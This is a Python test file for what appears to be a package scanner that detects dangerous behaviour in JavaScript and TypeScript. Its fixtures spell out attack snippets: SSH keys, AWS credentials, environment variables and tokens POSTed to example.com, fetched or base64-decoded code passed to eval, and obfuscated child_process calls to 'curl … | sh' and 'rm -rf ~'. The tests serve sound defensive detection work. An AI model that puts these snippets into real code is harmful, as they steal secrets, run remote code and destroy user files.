"""What JavaScript and TypeScript are said to do: attacks beside their harmless twins."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings, strategies as st

from skillpm.scanning.behaviour.acts import MAX_SOURCE, UNREAD, Act, Carries, Deed, Source
from skillpm.scanning.behaviour.javascript.front import JavaScriptFrontEnd


def acts(text: str, path: str = "a.js") -> list[Act]:
    return [act for _, act in JavaScriptFrontEnd().acts([Source(path, text)])]


def flows(text: str, deed: Deed, path: str = "a.js") -> Carries:
    """Everything that flows into the acts of one deed."""
    flowing = Carries.NOTHING
    for act in acts(text, path):
        if act.deed is deed:
            flowing |= act.carries
    return flowing


SENDS = {
    "a key over fetch": (
        (
            "import fs from 'node:fs';\nimport os from 'os';\n"
            "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "await fetch('https://example.com/c', {method: 'POST', body: key});\n"
        ),
        Carries.SECRET_FILE,
    ),
    "the environment over https": (
        (
            "const https = require('https');\nconst r = https.request('https://example.com/c');\n"
            "r.write(JSON.stringify(process.env));\nr.end();\n"
        ),
        Carries.ENVIRONMENT,
    ),
    "one variable over axios": (
        (
            "import axios from 'axios';\n"
            "axios.post('https://example.com', {t: process.env.GITHUB_TOKEN});\n"
        ),
        Carries.SECRET_VARIABLE,
    ),
}


@pytest.mark.parametrize("name", SENDS)
def test_what_is_sent_is_known_by_where_it_comes_from(name: str) -> None:
    text, carries = SENDS[name]
    assert flows(text, Deed.SEND) & carries


@pytest.mark.parametrize(
    "text",
    [
        (
            "const fs = require('fs');\nconst n = fs.readFileSync('notes.md', 'utf8');\n"
            "fetch('https://api.example.com', {method: 'POST', body: n});\n"
        ),
        "const level = process.env.LOG_LEVEL;\nfetch('https://api.example.com/?l=' + level);\n",
        "const {spawn} = require('child_process');\nspawn('make', [], {env: process.env});\n",
    ],
)
def test_ordinary_code_carries_no_secret(text: str) -> None:
    secrets = Carries.SECRET_FILE | Carries.ENVIRONMENT | Carries.SECRET_VARIABLE
    assert not flows(text, Deed.SEND) & secrets


RUNS = {
    "eval of an answer": (
        "const r = await fetch('https://example.com/x');\neval(await r.text());\n",
        Carries.NETWORK,
    ),
    "a promise into eval": (
        "fetch('https://example.com/x').then(r => r.text()).then(eval);\n",
        Carries.NETWORK,
    ),
    "a function of decoded text": (
        "const f = new Function(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\nf();\n",
        Carries.DECODED,
    ),
}


@pytest.mark.parametrize("name", RUNS)
def test_what_is_evaluated_is_known_by_where_it_comes_from(name: str) -> None:
    text, carries = RUNS[name]
    assert flows(text, Deed.INTERPRET) & carries


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("require('child_process').execSync('curl https://example.com | sh')", "curl"),
        ("const c = require('child_process');\nc['ex' + 'ec']('curl x | sh')", "curl"),
        ("import {exec as go} from 'node:child_process';\ngo(`rm -rf ${'~'}`)", "rm -rf ~"),
        ("global['req' + 'uire']('child_process').exec('id')", "id"),
    ],
)
def test_commands_are_found_behind_other_names(text: str, command: str) -> None:
    handed = [act for act in acts(text) if act.deed in (Deed.INTERPRET, Deed.RUN)]
    assert any(command in act.target for act in handed)


def test_an_answer_that_is_only_data_runs_nothing() -> None:
    text = (
        "const r = await fetch('https://api.example.com');\nconsole.log((await r.json()).name);\n"
    )
    assert not flows(text, Deed.INTERPRET)


def test_data_is_followed_from_one_file_to_another() -> None:
    sources = [
        Source(
            "scripts/a.js",
            "const k = require('./keys');\nfetch('https://example.com', {body: k()});",
        ),
        Source(
            "scripts/keys.js",
            "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('/root/.ssh/id_rsa');\n",
        ),
    ]
    sent = [act for _, act in JavaScriptFrontEnd().acts(sources) if act.deed is Deed.SEND]
    assert any(Carries.SECRET_FILE in act.carries for act in sent)


@pytest.mark.parametrize("lead", ["", "// ünï 漢字 🦊\n", "const s = '漢🦊';\n"])
def test_offsets_are_those_of_the_text(lead: str) -> None:
    text = lead + "fetch('https://example.com/x', {method: 'POST', body: process.env.A_TOKEN});\n"
    (act,) = [act for act in acts(text) if act.deed is Deed.SEND]
    assert text[act.start : act.end].startswith("fetch(")


def test_types_are_no_obstacle() -> None:
    text = (
        "const read = (p: string): string => readFileSync(p, 'utf8');\n"
        "import {readFileSync} from 'fs';\n"
        "const body: string = read('/root/.aws/credentials');\n"
        "await fetch('https://example.com' as string, {method: 'POST', body});\n"
    )
    assert Carries.SECRET_FILE in flows(text, Deed.SEND, "a.ts")


@pytest.mark.parametrize(
    "text",
    ["(" * 50_000, "[" * 50_000, "a." * 50_000, "!" * 50_000, "`${" * 20_000, "x=>" * 20_000, "\0" * 999,
     "{" * 50_000, "/*" * 20_000, "'\\" * 20_000],
    ids=lambda text: ascii(text[:3]),
)  # fmt: skip
def test_deadly_texts_end_soon(text: str) -> None:
    start = time.process_time()
    acts(text)
    assert time.process_time() - start < 5


@pytest.mark.parametrize("text", ["{a:" * 100_000, "+]=>,;" * 20_000], ids=["nested", "ambiguous"])
def test_what_would_exhaust_the_parser_is_not_parsed_and_is_said(text: str) -> None:
    assert UNREAD in acts(text)


def test_a_type_argument_that_never_ends_costs_little() -> None:
    start = time.process_time()
    acts("a<b, " * 10_000, "a.ts")
    assert time.process_time() - start < 5


def test_a_text_that_is_too_long_has_no_acts() -> None:
    assert acts("fetch(1);\n" * (MAX_SOURCE // 9)) in ([], [UNREAD])


_WORDS = st.sampled_from(
    ["const a =", "require('fs')", "eval(", "a.b", "=>", "{", "}", "(", ")", "[", "`${", "process.env",
     "fetch(", "await", "async", "function f(x)", "class A", "import x from 'y';", "/*", "*/", "'", "\\",
     "return", ";", "\n", "for (const k of a)", "é", "\ud800", "new Function(", "...x", "?.", "??"]
)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(_WORDS, max_size=40), st.sampled_from(["a.js", "a.ts", "a.tsx", "a.mjs"]))
def test_any_words_have_an_answer(words: list[str], path: str) -> None:
    text = " ".join(words)
    assert all(0 <= act.start <= act.end <= len(text) for act in acts(text, path))


@settings(deadline=None, max_examples=300)
@given(st.text(max_size=300))
def test_any_text_has_an_answer(text: str) -> None:
    assert all(0 <= act.start <= act.end <= len(text) for act in acts(text))
